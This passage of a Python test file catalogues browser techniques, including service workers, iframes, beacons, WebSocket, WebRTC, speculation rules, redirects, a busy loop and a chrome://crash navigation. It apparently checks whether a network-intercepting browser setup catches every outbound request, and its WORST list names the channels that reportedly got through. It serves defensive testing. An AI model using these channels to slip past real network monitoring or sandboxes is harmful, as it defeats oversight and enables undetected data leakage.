    Technique("listed_service_worker", "listed", _js("navigator.serviceWorker.register('/r/worker.js').catch(() => 0)"), listed=(_get("/r/worker.js"),)),
    Technique("listed_service_worker_frame", "listed", "<iframe id=f src='/r/empty.html'></iframe>" + _js("f.onload = () => ServiceWorkerContainer.prototype.register.call(f.contentWindow.navigator.serviceWorker, '/r/worker.js').catch(() => 0)"), listed=(_get("/r/empty.html"), _get("/r/worker.js"))),
    Technique("listed_xml", "listed", "<iframe src='/r/doc.xml'></iframe>", listed=(_get("/r/doc.xml"),)),
    Technique("listed_svg", "listed", "<iframe src='/r/pic.svg'></iframe><img src='/r/pic.svg'>", listed=(_get("/r/pic.svg"),), fails=True),
    Technique("listed_pdf", "listed", "<embed src='/r/doc.pdf' type=application/pdf>", listed=(_get("/r/doc.pdf"),)),
    Technique("listed_style", "listed", "<link rel=stylesheet href='/r/style.css'>", listed=(_get("/r/style.css"),), fails=True),
    Technique("listed_attachment", "listed", "<iframe src='/r/attachment'></iframe>", listed=(_get("/r/attachment"),)),
    Technique("listed_large", "listed", "<img src='/r/large'>", listed=(_get("/r/large"),), fails=True, alone=True),
    Technique("listed_endless", "listed", "<img src='/r/endless'>", listed=(_get("/r/endless"),), fails=True, alone=True),
    Technique("page_redirect", "entry", entry="/r/302", fails=True),
    Technique("page_redirect_308", "entry", entry="/r/308", fails=True),
    Technique("page_redirect_other", "entry", entry="/r/other/302", fails=True),
    Technique("page_unauthorised", "entry", entry="/r/401", fails=True),
    Technique("page_proxy_auth", "entry", entry="/r/407", fails=True),
    Technique("page_error", "entry", entry="/r/500", fails=True),
    Technique("page_empty", "entry", entry="/r/204"),
    Technique("page_attachment", "entry", entry="/r/attachment"),
    Technique("busy", "entry", _js("addEventListener('load', () => { for (;;); })"), fails=True, alone=True),
    Technique("crash", "entry", _js("addEventListener('load', () => { location.href = 'chrome://crash' })")),
)  # fmt: skip

TECHNIQUES: tuple[Technique, ...] = (
    *_SPECIAL,
    *_group("script", False, *_SCRIPTS),
    *_group("later", False, *_LATER),
    *_group("browser", False, *_BROWSER),
    *_group("socket", False, *_SOCKETS),
    *_group("hint", False, *_HINTS),
    *_group("part", False, *_PARTS),
    *_group("frame", False, *_FRAMES),
    *_group("worker", False, *_WORKERS),
    *_group("move", True, *_MOVES),
    *_group("move", False, *_QUIET_MOVES),
    *(Technique(identity, "header", headers=headers) for identity, headers in _HEADERS),
)
BY_ID = {one.id: one for one in TECHNIQUES}
assert len(BY_ID) == len(TECHNIQUES)

WORST = (
    "benign", "fetch", "beacon", "ping", "keepalive_stream", "fetch_later", "fetch_later_post", "fetch_later_unload",
    "beacon_pagehide", "fedcm", "payment_manifest", "websocket", "websocket_frame", "websocket_stream",
    "webtransport", "webtransport_hash", "rtc_stun", "rtc_stun_named", "rtc_turn_tcp", "rtc_turns", "rtc_candidate",
    "speculation_prefetch", "speculation_prerender", "speculation_written", "speculation_links", "preconnect",
    "dns_prefetch", "audio_worklet", "paint_worklet", "frame_other", "frame_gone", "shared_worker_blob",
    "listed_service_worker", "listed_redirect_post", "listed_other_body", "form_blank", "open_blank_socket",
    "download_named", "header_refresh", "header_speculation", "idle",
)  # fmt: skip
"""Those that reached the network from a browser that is only intercepted, and a few of each other kind."""
